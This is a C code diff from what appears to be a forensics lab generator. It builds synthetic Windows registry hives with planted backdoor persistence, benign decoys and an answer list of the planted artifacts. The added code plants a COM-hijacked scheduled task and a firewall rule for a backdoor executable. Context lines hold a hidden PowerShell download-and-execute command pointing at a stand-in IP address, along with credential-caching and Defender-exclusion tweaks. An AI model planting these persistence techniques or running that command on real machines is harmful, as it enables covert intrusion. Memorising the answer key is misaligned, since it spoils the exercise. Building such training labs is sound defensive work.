@@ -142,6 +142,30 @@ static void cached(struct mh *m, const char *name, const char *id, const char *c
     buf_free(&b);
 }
 
+/* A task whose action is a component: a class that names a library. */
+static void component_task(struct mh *m, const char *name, const char *id, const char *library, int64_t us)
+{
+    char    key[300], class[64];
+    uint8_t actions[6 + 6 + 16 + 4] = { 3, 0 };
+
+    cached(m, name, id, "unused", "", true, us);
+    actions[6] = actions[7] = 0x77;
+    for (int i = 0; i < 16; i++)
+        actions[12 + i] = (uint8_t)(id[1] + i);
+    const uint8_t *p = actions + 12;
+    snprintf(class, sizeof class, "{%02X%02X%02X%02X-%02X%02X-%02X%02X-%02X%02X-%02X%02X%02X%02X%02X%02X}", p[3], p[2], p[1], p[0], p[5], p[4], p[7], p[6], p[8], p[9], p[10], p[11], p[12], p[13], p[14], p[15]);
+    snprintf(key, sizeof key, CACHE "Tasks\\%s", id);
+    struct mh_value *v = mh_key(m, key, us)->value;
+    while (v && strcmp(v->name, "Actions"))
+        v = v->next;
+    if (!v)
+        lab_die("a task without actions");
+    memcpy(v->data, actions, sizeof actions);
+    v->n = sizeof actions;
+    snprintf(key, sizeof key, "Classes\\CLSID\\%s\\InprocServer32", class);
+    text(m, key, us, "", library);
+}
+
 /* ---- SAM ---- */
 
 static void user(struct mh *m, const char *name, uint32_t rid, uint32_t own, uint32_t flags, int64_t us)
@@ -204,6 +228,7 @@ void tell_ways_registry(struct lab *l)
     text(m, CURRENT "Control\\Print\\Monitors\\Saucer", t, "Driver", "C:\\PerfLogs\\saucer.dll");
     text(m, CURRENT "Services\\W32Time\\TimeProviders\\Clock", t, "DllName", "C:\\ProgramData\\clock.dll");
     number(m, CURRENT "Control\\SecurityProviders\\WDigest", t, "UseLogonCredential", 1);
+    text(m, CURRENT "Services\\SharedAccess\\Parameters\\FirewallPolicy\\FirewallRules", t, "{0B1C2D3E-0000-4000-8000-00000000F1FE}", "v2.26|Action=Allow|Active=TRUE|Dir=In|Protocol=6|App=C:\\Users\\Public\\tea.exe|Name=Tea|");
     put(l, CONFIG "SYSTEM", m, "SYSTEM", t);
 
     m = software_hive(l, old);
@@ -212,6 +237,7 @@ void tell_ways_registry(struct lab *l)
     text(m, "Microsoft\\NetSh", t, "infuser", "C:\\Windows\\Fonts\\infuser.dll");
     text(m, "Microsoft\\Active Setup\\Installed Components\\{0B1C2D3E-0000-4000-8000-00000000C0DE}", t, "StubPath", "powers@hell.exe -nop -w hidden -c I@EX (New-Object Net.Web@Client).Download@String('http://198.51.100.23/e')");
     cached(m, "Microsoft\\Windows\\Cups\\Wash", "{11111111-0000-4000-8000-00000000C0DE}", "C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\System32\\cups.dll,Wash", false, t);
+    component_task(m, "Microsoft\\Windows\\Cups\\Dry", "{44444444-0000-4000-8000-00000000C0DE}", "C:\\ProgramData\\dry.dll", t);
     number(m, "Microsoft\\Windows Defender\\Exclusions\\Paths", t, "C:\\", 0);
     number(m, NT "Winlogon\\SpecialAccounts\\UserList", t, "steward", 0);
     text(m, CV "Run", t, "Kettle", "C:\\Program Files\\kettle.exe");
@@ -249,7 +275,7 @@ void tell_ways_registry(struct lab *l)
     truth_drop(l, "use.covered");
     truth_text(l, "back_door.covered", "full");
     static const char *const ways[] = { "TeaTime", "TermService", "COR_PROFILER_PATH", "0.0.0.0/8443 to 127.0.0.1/3389", "AppSecDll", "strainer", "Saucer", "Clock", "cosy.exe", "sethc.exe", "infuser",
-                                        "{0B1C2D3E-0000-4000-8000-00000000C0DE}", "Microsoft\\Windows\\Cups\\Wash", "Kettle", "Guest", "teaboy$", "steward", "Steep" };
+                                        "{0B1C2D3E-0000-4000-8000-00000000C0DE}", "Microsoft\\Windows\\Cups\\Wash", "Microsoft\\Windows\\Cups\\Dry", "Tea", "Kettle", "Guest", "teaboy$", "steward", "Steep" };
     for (size_t i = 0; i < sizeof ways / sizeof *ways; i++)
         truth_list(l, "ways_back", ways[i]);
     truth_list(l, "intruder_clients", someone.client);
@@ -267,6 +293,8 @@ void tell_ways_registry_benign(struct lab *l)
     text(m, CURRENT "Services\\TermService\\Parameters", t, "ServiceDll", "%SystemRoot%\\System32\\termsrv.dll");
     text(m, CURRENT "Services\\W3SVC", t, "Environment", "COR_ENABLE_PROFILING=1\nCOR_PROFILER={71DA0A04-7777-4EC6-9643-7D28B46A8A41}\nCOR_PROFILER_PATH=C:\\Program Files\\New Relic\\.NET Agent\\NewRelic.Profiler.dll");
     text(m, CURRENT "Services\\PortProxy\\v4tov4\\tcp", t, "10.20.0.11/8080", "10.20.0.12/80");
+    text(m, CURRENT "Services\\SharedAccess\\Parameters\\FirewallPolicy\\FirewallRules", t, "{0B1C2D3E-0000-4000-8000-00000000F1FE}", "v2.26|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=3389|Name=Remote desktop|");
+    text(m, CURRENT "Services\\SharedAccess\\Parameters\\FirewallPolicy\\FirewallRules", t, "{0B1C2D3E-0000-4000-8000-00000000F2FE}", "v2.26|Action=Allow|Active=TRUE|Dir=In|Protocol=6|App=C:\\Program Files\\Vendor\\agent.exe|Name=Agent|");
     text(m, CURRENT "Control\\Lsa", t, "Notification Packages", "scecli\nrassfm\nVendorPasswordFilter\n");
     text(m, CURRENT "Control\\Lsa", t, "Security Packages", "\"\"\n");
     text(m, CURRENT "Control\\Print\\Monitors\\Vendor Port", t, "Driver", "vendmon.dll");
@@ -282,6 +310,7 @@ void tell_ways_registry_benign(struct lab *l)
     text(m, "Microsoft\\NetSh", t, "vendor", "C:\\Program Files\\Vendor\\netsh_vendor.dll");
     text(m, "Microsoft\\Active Setup\\Installed Components\\{89820200-ECBD-11cf-8B85-00AA005B4340}", t, "StubPath", "%SystemRoot%\\system32\\regsvr32.exe /s /n /i:U shell32.dll");
     cached(m, "Microsoft\\Windows\\Defrag\\ScheduledDefrag", "{22222222-0000-4000-8000-00000000C0DE}", "%windir%\\system32\\defrag.exe", "-c -h -k -g -$", true, old);
+    component_task(m, "Microsoft\\Windows\\Time\\Check", "{55555555-0000-4000-8000-00000000C0DE}", "%SystemRoot%\\System32\\timetool.dll", old);
     cached(m, "Nightly backup", "{33333333-0000-4000-8000-00000000C0DE}", "powershell.exe", "-NoProfile -ExecutionPolicy Bypass -File \"C:\\Scripts\\backup mail.ps1\"", true, t);
     number(m, "Microsoft\\Windows Defender\\Exclusions\\Processes", t, "%SystemRoot%\\System32\\inetsrv\\w3wp.exe", 0);
     number(m, "Microsoft\\Windows Defender\\Exclusions\\Paths", t, "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Mailbox", 0);
